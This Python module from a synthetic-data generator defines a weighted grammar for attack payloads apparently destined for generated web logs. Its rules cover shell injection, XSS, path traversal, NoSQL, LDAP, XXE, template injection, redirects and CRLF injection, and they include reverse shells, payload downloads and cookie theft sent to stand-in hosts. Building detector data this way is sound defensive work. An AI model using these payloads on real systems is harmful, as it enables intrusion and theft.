"""Attacks other than SQL injection, each family a grammar, and the table of all families."""

from collections.abc import Callable
from random import Random

from data.synthesis.grammar import Grammar, address, hexadecimal, letters, number
from data.synthesis.sql import injection

_RULES = r"""
domain: evil.example ¦ «letters».example ¦ «letters».ru ¦ «letters».xyz ¦ x.«letters».cc ¦ «address»
 ¦ attacker.example ¦ «letters»-«letters».com ¦ 0x«hexadecimal» ¦ «letters».oast.example
link: 3§http://«domain» ¦ 2§https://«domain» ¦ 3§//«domain»
command: 2§id ¦ 2§ls ¦ 2§ls -la ¦ 2§whoami ¦ 6§cat «file» ¦ 2§/bin/cat «file» ¦ uname -a ¦ pwd
 ¦ ps aux ¦ netstat -an ¦ env ¦ ifconfig ¦ ping -c «few» «address» ¦ ping -n «few» «address»
 ¦ sleep «few» ¦ sleep «few»0 ¦ dir ¦ dir c:\ ¦ type c:\windows\win.ini ¦ net user ¦ ipconfig /all
 ¦ systeminfo ¦ nslookup «letters».«domain» ¦ curl «link»/«letters»
 ¦ wget «link»/«letters».sh -O /tmp/«letters» ¦ wget «domain»/x ¦ head «file»
 ¦ nc -e /bin/sh «address» «number» ¦ bash -i >& /dev/tcp/«address»/«number» 0>&1
 ¦ rm -rf /tmp/«letters» ¦ /bin/ls ¦ /bin/cat «file» ¦ /usr/bin/id ¦ /bin/sh -c id
 ¦ python -c 'import os;os.system("id")' ¦ perl -e 'print «number»' ¦ php -r 'phpinfo();'
 ¦ echo «letters» ¦ echo «number» > /tmp/«letters» ¦ powershell -c iwr «link» ¦ c''at «file»
 ¦ cat$ifs«file» ¦ w\ho\am\i ¦ {cat,«file»} ¦ touch /tmp/«letters» ¦ chmod 777 /tmp/«letters»
 ¦ kill -9 «number» ¦ crontab -l ¦ find / -name «letters» ¦ cmd /c dir
file: 4§/etc/passwd ¦ /etc/shadow ¦ /etc/hosts ¦ /proc/self/environ ¦ /etc/issue ¦ .env
 ¦ /var/log/auth.log ¦ ~/.ssh/id_rsa ¦ config.php
shell: 4§«separator»«command» ¦ 2§«separator» «command» ¦ 2§«separator»«command»«tail» ¦ `«command»`
 ¦ $(«command») ¦ "`«command»`" ¦ ';«command»;' ¦ ";«command»;" ¦ );«command» ¦ ");«command»;
 ¦ %0a«command» ¦ %0a«command»%0a ¦ () { :;}; /bin/«command» ¦ {{«command»}}|sh
 ¦ <!--#exec cmd="«command»"--> ¦ system('«command»') ¦ exec("«command»"); ¦ ;system('«command»');
 ¦ "+system("«command»")+"
separator: 4§; ¦ 3§| ¦ 2§&& ¦ || ¦ & ¦ ;; ¦ |& ¦ '; ¦ "; ¦ '| ¦ "| ¦ «linefeed»
tail: ; ¦ # ¦ | ¦ &  ¦  2>&1 ¦ ;# ¦ |more ¦  ||
script: 3§<script>«code»</script> ¦ <script src=«link»/«letters».js></script> ¦ <script>«code»//
 ¦ <script>«code» ¦ <script/src="«link»"></script> ¦ <scr<script>ipt>«code»</scr</script>ipt>
 ¦ </script><script>«code»</script> ¦ <script type="text/javascript">«code»;</script>
 ¦ <script >«code»</script > ¦ <sCript x>«code»</scRipt x>
 ¦ <script>document.location='«link»/?c='+document.cookie</script> ¦ <script\x20>«code»</script>
markup: 3§<«tag» «event»=«code»> ¦ 2§<«tag»/«event»=«code»> ¦ <«tag» src=x «event»="«code»">
 ¦ <«tag» «event»='«code»' ¦ <img src=x «event»=«code»> ¦ <svg/onload=«code»>
 ¦ <svg><script>«code»</script></svg> ¦ <img src="javascript:«code»">
 ¦ <iframe src="javascript:«code»"></iframe> ¦ <iframe src=«link»>
 ¦ <a href="javascript:«code»">«letters»</a> ¦ <a href=javascript&colon;«code»>x
 ¦ <body background="javascript:«code»">
 ¦ <meta http-equiv="refresh" content="0;url=javascript:«code»"> ¦ <object data="javascript:«code»">
 ¦ <embed src="«link»/x.swf"> ¦ <base href="«link»/"> ¦ <div style="width:expression(«code»)">
 ¦ <link rel=stylesheet href=«link»/x.css> ¦ <math><a xlink:href="javascript:«code»">
 ¦ <details open ontoggle=«code»> ¦ <video><source onerror="«code»"> ¦ <marquee onstart=«code»>
 ¦ <form action="«link»"><input type=submit> ¦ <table background="javascript:«code»">
 ¦ <style>@import '«link»/x.css';</style> ¦ <xss id=x tabindex=1 onfocus=«code»></xss>
 ¦ </title><«tag» «event»=«code»> ¦ <%00«tag» «event»=«code»>
 ¦ <isindex type=image src=1 onerror=«code»> ¦ <x onclick=«code»>click
outbreak: 3§"><script>«code»</script> ¦ '><script>«code»</script> ¦ "><img src=x onerror=«code»>
 ¦ '"><svg onload=«code»> ¦ 2§" «event»="«code» ¦ 2§' «event»='«code» ¦ " autofocus onfocus="«code»
 ¦ ';«code»;// ¦ ";«code»;// ¦ \";«code»;// ¦ '-«code»-' ¦ "-«code»-" ¦ javascript:«code»
 ¦ javascript://%0a«code» ¦ data:text/html,<script>«code»</script> ¦ '+«code»+' ¦ `-«code»-`
 ¦ x" «event»=«code» y=" ¦ }};«code»// ¦ --><script>«code»</script>
 ¦ </textarea><script>«code»</script> ¦ data:text/html;base64,phnjcmlwdd5hbgvydcgpo «letters»
 ¦ vbscript:msgbox(«number»)
code: 4§alert(«few») ¦ 2§alert('«letters»') ¦ alert(document.cookie) ¦ alert(document.domain)
 ¦ confirm(«few») ¦ prompt(«few») ¦ alert`«few»` ¦ alert(string.fromcharcode(«few»«few»,«few»«few»))
 ¦ eval('al'+'ert(«few»)') ¦ eval(name) ¦ print() ¦ window['alert'](«few»)
 ¦ top[/al/.source+/ert/.source](«few») ¦ fetch('«link»?'+document.cookie) ¦ (alert)(«few»)
 ¦ \u0061lert(«few») ¦ document.write('«letters»') ¦ location='«link»'
 ¦ new image().src='«link»/?'+document.cookie ¦ settimeout('alert(«few»)',0) ¦ [«few»].find(alert)
 ¦ import('«link»/x.js') ¦ alert(/«letters»/) ¦ al&#101;rt(«few»)
tag: 3§img ¦ 2§svg ¦ body ¦ input ¦ video ¦ audio ¦ iframe ¦ div ¦ a ¦ select ¦ textarea ¦ button
 ¦ object ¦ p ¦ b ¦ form
event: 4§onerror ¦ 4§onload ¦ 2§onclick ¦ 2§onmouseover ¦ onfocus ¦ onmouseenter ¦ onblur ¦ onkeyup
 ¦ ontoggle ¦ onanimationend
traversal: 3§«climb»«target» ¦ /«climb»«target» ¦ «name»/«climb»«target» ¦ «climb»«target»%00
 ¦ «climb»«target»%00.«extension» ¦ «absolute» ¦ file://«absolute» ¦ «climb»{file}
 ¦ php://filter/convert.base64-encode/resource=«page» ¦ «climb»«page» ¦ expect://«command» ¦ «climb»
 ¦ zip://«letters».jpg#x ¦ file:/«drive» ¦ «drive» ¦ \\«domain»\«letters»\x
climb: 3§«up» ¦ 3§«up»«up» ¦ 2§«up»«up»«up» ¦ 2§«up»«up»«up»«up» ¦ «up»«up»«up»«up»«up»«up»«up»«up»
 ¦ «mixed»«mixed»«mixed»
up: 9§../ ¦ 2§..\ ¦ ..// ¦ ....// ¦ ..;/ ¦ ..%2f ¦ ..%5c ¦ %2e%2e/ ¦ %2e%2e%2f ¦ ..%c0%af ¦ ..%252f
 ¦ ..././ ¦ /../.. ¦ .../...//
mixed: ./../ ¦ .//../ ¦ ../ ¦ ..// ¦ /./ ¦ /..///
target: 5§etc/passwd ¦ etc/shadow ¦ etc/hosts ¦ boot.ini ¦ 2§windows/win.ini ¦ windows\win.ini
 ¦ winnt/system32/cmd.exe ¦ proc/self/environ ¦ var/log/apache2/access.log
 ¦ etc/apache2/apache2.conf ¦ home/«letters»/.ssh/id_rsa ¦ .env ¦ etc/nginx/nginx.conf
 ¦ root/.bash_history ¦ windows/system32/drivers/etc/hosts ¦ usr/local/etc/my.cnf ¦ etc/group
 ¦ proc/version
page: web-inf/web.xml ¦ config.php ¦ index.php ¦ wp-config.php ¦ .git/config ¦ .htaccess
 ¦ settings.py ¦ admin/config.inc ¦ web.config ¦ .env
absolute: /etc/passwd ¦ /etc/shadow ¦ /proc/self/cmdline ¦ /var/log/syslog ¦ /etc/issue
 ¦ /root/.ssh/id_rsa ¦ /windows/win.ini ¦ /.%00./etc/passwd
drive: c:\boot.ini ¦ c:/windows/win.ini ¦ c:\windows\system32\config\sam ¦ d:\inetpub\web.config
 ¦ c:\windows\repair\sam ¦ /c:/boot.ini
name: files ¦ img ¦ static ¦ manuals ¦ «letters» ¦ docs/v«few» ¦ .
extension: jpg ¦ png ¦ pdf ¦ html ¦ txt
nosql: {"$«compare»":""} ¦ {"$«compare»":null} ¦ {"$«compare»":"«letters»"} ¦ {"$regex":".*"}
 ¦ {"$regex":"^«letters»"} ¦ {"$exists":true} ¦ {"$where":"sleep(«few»000)"}
 ¦ {"$where":"this.«key»=='«letters»'"} ¦ {"$or":[{},{"«key»":"«letters»"}]}
 ¦ {"$in":["admin","root"]} ¦ {"«key»":{"$«compare»":«few»}} ¦ '; return true; var x='
 ¦ ';return this.«key»!='«letters»';var y=' ¦ 2§' || '1'=='1 ¦ ' || 1==1// ¦ ' || 1==1%00
 ¦ ' && this.«key».match(/.*/)//+%00 ¦ [$«compare»]=«few» ¦ ';sleep(«few»000);'
 ¦ '||this.«key»=='«letters» ¦ true, $where: '1 == 1' ¦ , $where: '«few» == «few»'
 ¦ '; while(true){}; var z=' ¦ db.users.find({$where:"«few»"}) ¦ ', «key»: {$«compare»: «few»}, x: '
 ¦ {$«compare»: ''} ¦ ';db.dropdatabase();//
compare: 3§ne ¦ 2§gt ¦ gte ¦ lt ¦ nin
key: 2§password ¦ username ¦ role ¦ email ¦ token ¦ _id
ldap: *)(«attribute»=*) ¦ *)(«attribute»=*))(|(«attribute»=* ¦ *)(&) ¦ *))%00 ¦ «letters»)(&))
 ¦ admin)(&) ¦ admin*)((|«attribute»=*) ¦ *(|(«attribute»=*)) ¦ )(«attribute»=))
 ¦ *)(|(«attribute»=«letters»*)) ¦ (|(«attribute»=*)(«attribute»=*)) ¦ admin)(!(&(|
 ¦ )(!(«attribute»=«letters») ¦ *)(objectclass=* ¦ x)(|(«attribute»=admin)
 ¦ (&(«attribute»=admin)(!(&(«few»=«few»)))) ¦ *)«attribute»=* ¦ «letters»*)(mail=* ¦ *|%26'
 ¦ \2a)(«attribute»=\2a
attribute: 2§uid ¦ cn ¦ objectclass ¦ userpassword ¦ mail ¦ sn ¦ memberof
include: 3§<!--#«directive»--> ¦ <!--#exec cmd='«command»' --> ¦ "><!--#«directive»-->
 ¦ <esi:include src="«link»/x"/> ¦ <!-- #include file="«file»" -->
 ¦ <!--#include virtual="«file»"--> ¦ <?«instruction»?>
 ¦ 2§«doctype»<«letters»>&«letters»;</«letters»> ¦ «doctype»<r>&x;</r> ¦ %«letters»;]>
 ¦ <xi:include href="file://«file»" parse="text"/> ¦ <![cdata[<]]>script<![cdata[>]]>
 ¦ <soap:body><x>&xxe;</x></soap:body>
directive: exec cmd="«command»" ¦ include file="«file»" ¦ echo var="document_root" ¦ printenv
 ¦ config timefmt="«letters»" ¦ echo var="date_local"
instruction: php system('«command»'); ¦ php phpinfo(); ¦ = `«command»`
 ¦ xml version="1.0"?><!doctype r [<!entity % p system "«link»/x.dtd"> %p;]><r/
doctype: <!doctype r [<!entity x system "file://«file»">]>
 ¦ <?xml version="1.0"?><!doctype x [<!entity xxe system "«link»">]>
 ¦ <!doctype «letters» [<!element «letters» any><!entity x public "a" "file://«file»">]>
 ¦ <!doctype l [<!entity a "lol"><!entity b "&a;&a;&a;&a;">]>
template: 3§{{«sum»}} ¦ 2§${«sum»} ¦ <%= «sum» %> ¦ #{«sum»} ¦ *{«sum»} ¦ {{config}}
 ¦ {{config.items()}} ¦ {{self}} ¦ ${t(java.lang.runtime).getruntime().exec('«command»')}
 ¦ {{''.__class__.__mro__[«few»].__subclasses__()}} ¦ {{request.application.__globals__}}
 ¦ {{cycler.__init__.__globals__.os.popen('«command»').read()}} ¦ ${jndi:ldap://«domain»/«letters»}
 ¦ ${jndi:dns://«domain»} ¦ ${${lower:j}ndi:rmi://«domain»/x} ¦ {php}system('«command»');{/php}
 ¦ {%25 debug %25} ¦ @(«sum») ¦ {{constructor.constructor('«code»')()}} ¦ ${«letters».getclass()}
 ¦ %{«sum»} ¦ <#assign x="freemarker.template.utility.execute"?new()>${x("«command»")}
redirect: 3§«link» ¦ 2§«link»/«letters» ¦ «link»/login ¦ https:«domain» ¦ https:/\«domain»
 ¦ /\«domain» ¦ ///«domain» ¦ \\«domain» ¦ https://shop.example.com@«domain»/
 ¦ https://shop.example.com.«domain»/account ¦ «link»/shop.example.com ¦ //shop.example.com@«domain»
 ¦ https://shop-example.com/account ¦ http://shop.example.com.«letters».xyz ¦ /%09/«domain»
 ¦ /%2f%2f«domain» ¦ https%3a%2f%2f«domain» ¦ javascript:«code» ¦ ftp://«domain»/x
 ¦ /account?next=«link» ¦ data:text/html,<script>«code»</script> ¦ /redirect?url=«link»
header: 3§«value»«newline»set-cookie: «letters»=«hexadecimal» ¦ 2§«newline»location: «link»
 ¦ «value»«newline»«newline»<html>«letters» ¦ «newline»x-«letters»: «few»
 ¦ «value»«newline»bcc: «letters»@«domain»
 ¦ «newline»content-length: 0«newline»«newline»http/1.1 200 ok ¦ «newline»host: «domain»
 ¦ «value»«newline»x-forwarded-for: 127.0.0.1
newline: 5§%0d%0a ¦ 2§«return»«linefeed» ¦ %0a ¦ %0d ¦ %e5%98%8a%e5%98%8d ¦ %250d%250a ¦ %u000a
value: / ¦ en ¦ «few» ¦ «letters» ¦ /account ¦ «number»
"""

_GRAMMAR = Grammar(
    _RULES,
    {
        "number": number,
        "letters": letters,
        "hexadecimal": hexadecimal,
        "address": address,
        "return": lambda rng: "\r",
        "linefeed": lambda rng: "\n",
        "few": lambda rng: str(1 + int(rng.random() * 9)),
        "sum": lambda rng: f"{number(rng)}*{number(rng)}" if rng.random() < 0.5 else "7*7",
    },
)


def _other(*symbols: str) -> Callable[[Random, str], str]:
    def attack(rng: Random, value: str) -> str:
        payload = _GRAMMAR.draw(rng, symbols[int(rng.random() * len(symbols))])
        return _embedded(rng, payload, value)

    return attack


def _embedded(rng: Random, payload: str, value: str) -> str:
    chance = rng.random()
    if chance < 0.6:
        return payload
    if chance < 0.85:
        return value + payload
    return f"{value} {payload}"


def _alone(symbol: str) -> Callable[[Random, str], str]:
    return lambda rng, value: _GRAMMAR.draw(rng, symbol)


# Family: how to draw one, its share of the attacks when the log starts and when it ends.
FAMILIES: dict[str, tuple[Callable[[Random, str], str], float, float]] = {
    "sql": (injection, 0.55, 0.42),
    "xss": (_other("script", "markup", "outbreak"), 0.16, 0.14),
    "shell": (_other("shell"), 0.09, 0.08),
    "traversal": (_alone("traversal"), 0.11, 0.10),
    "nosql": (_alone("nosql"), 0.017, 0.05),
    "ldap": (_alone("ldap"), 0.014, 0.04),
    "include": (_other("include"), 0.014, 0.045),
    "template": (_other("template"), 0.016, 0.04),
    "redirect": (_alone("redirect"), 0.016, 0.045),
    "header": (_alone("header"), 0.013, 0.04),
}


def family(rng: Random, progress: float) -> str:
    """Choose a family of attacks.

    Args:
        rng: Where the choice comes from.
        progress: How much of the log lies behind, 0 to 1. Half of the shift from the first to
            the last shares falls into the held-out quarter.

    Returns:
        A key of `FAMILIES`.
    """
    late = progress**3
    chance = rng.random()
    for name, (_, first, last) in FAMILIES.items():
        chance -= first + (last - first) * late
        if chance < 0:
            return name
    return "sql"
